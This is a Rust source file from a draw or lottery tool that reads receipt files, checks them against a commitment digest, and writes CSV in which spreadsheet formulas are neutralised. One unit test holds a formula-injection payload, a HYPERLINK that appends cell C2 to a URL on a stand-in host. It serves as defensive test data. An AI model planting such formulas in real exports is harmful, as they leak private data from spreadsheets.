//! The organiser's private files read back: receipts.jsonl for `slips` and
//! `results` (issue 17).
//!
//! WHY one reader: both commands put names next to codes or results, so both
//! must refuse receipts of another commitment before printing anything. A
//! slip with the code of another pot, or a result list naming the residents
//! of another draw, is worse than no paper at all.

use crate::i18n::Lang;
use crate::{problem, t};
use anyhow::Result;
use potdraw_core::hash::Hash32;
use potdraw_core::model::Receipt;
use potdraw_core::unicode::visible;
use std::path::Path;

/// The largest receipts file we read (as `check`).
const MAX_RECEIPTS_BYTES: u64 = 4 << 30;

/// Every receipt of `path`, each one of the commitment `digest`.
pub fn read_receipts(path: &Path, digest: &Hash32) -> Result<Vec<Receipt>> {
    let bytes = crate::files::read(path, MAX_RECEIPTS_BYTES)?;
    let file = path.display();
    let text = std::str::from_utf8(&bytes).map_err(|_| problem!("receipt-not-utf8", file = file))?;
    let mut receipts = Vec::new();
    for (n, line) in text.lines().enumerate().filter(|(_, l)| !l.trim().is_empty()) {
        let r = potdraw_core::parse::receipt(line.as_bytes()).map_err(|e| {
            crate::problem::parse(&t!(Lang::current(), "errors.receipt-line", file = file, line = n + 1), &e)
        })?;
        if &r.commitment_digest != digest {
            return Err(problem!(
                "receipts-other-commitment",
                file = file,
                expected = hex::encode(digest),
                found = r.doc.commitment_digest,
                title = format!("{:?}", visible(&r.doc.title))
            ));
        }
        receipts.push(r);
    }
    if receipts.is_empty() {
        return Err(problem!("receipts-empty", file = file));
    }
    Ok(receipts)
}

/// The receipts' column names, in the list's order (all receipts of one
/// commit share them).
pub fn column_names(receipts: &[Receipt]) -> Vec<String> {
    receipts.first().map(|r| r.doc.columns.0.iter().map(|(k, _)| k.clone()).collect()).unwrap_or_default()
}

/// `--name-column`, or the first private column; `None` when the list had
/// no column besides id and weight.
pub fn name_column(receipts: &[Receipt], flag: Option<&str>) -> Result<Option<String>> {
    let names = column_names(receipts);
    match flag {
        Some(want) if names.iter().any(|n| n == want) => Ok(Some(want.to_string())),
        Some(want) => Err(problem!("name-column", column = format!("{want:?}"), columns = names.join(", "))),
        None => Ok(names.into_iter().next()),
    }
}

/// A CSV document of `rows` under `header`, every field quoted as needed,
/// and every field that a spreadsheet would run as a formula written with a
/// leading `'` ([`crate::spreadsheet_safe`]; the file is for a spreadsheet).
pub fn csv(header: &[String], rows: &[Vec<String>]) -> Result<Vec<u8>> {
    use crate::spreadsheet_safe::neutralise;
    let mut w = csv::WriterBuilder::new().terminator(csv::Terminator::CRLF).from_writer(Vec::new());
    w.write_record(header.iter().map(|c| neutralise(c).into_owned()))?;
    for r in rows {
        w.write_record(r.iter().map(|c| neutralise(c).into_owned()))?;
    }
    w.into_inner().map_err(|e| anyhow::anyhow!("internal error: {e}"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn csv_quotes_commas_and_quotes() {
        let out = csv(&["id".into(), "name".into()], &[vec!["A1".into(), "Mensah, \"Joyce\"".into()]]).unwrap();
        assert_eq!(String::from_utf8(out).unwrap(), "id,name\r\nA1,\"Mensah, \"\"Joyce\"\"\"\r\n");
    }

    #[test]
    fn csv_cells_never_start_a_formula() {
        let link = "=HYPERLINK(\"https://x.invalid/?\"&C2,\"klik\")";
        let out =
            csv(&["id".into(), "@name".into()], &[vec!["A1".into(), link.into()], vec!["A2".into(), "-Mo-".into()]])
                .unwrap();
        let text = String::from_utf8(out).unwrap();
        assert_eq!(
            text,
            "id,'@name\r\nA1,\"'=HYPERLINK(\"\"https://x.invalid/?\"\"&C2,\"\"klik\"\")\"\r\nA2,'-Mo-\r\n"
        );
    }
}
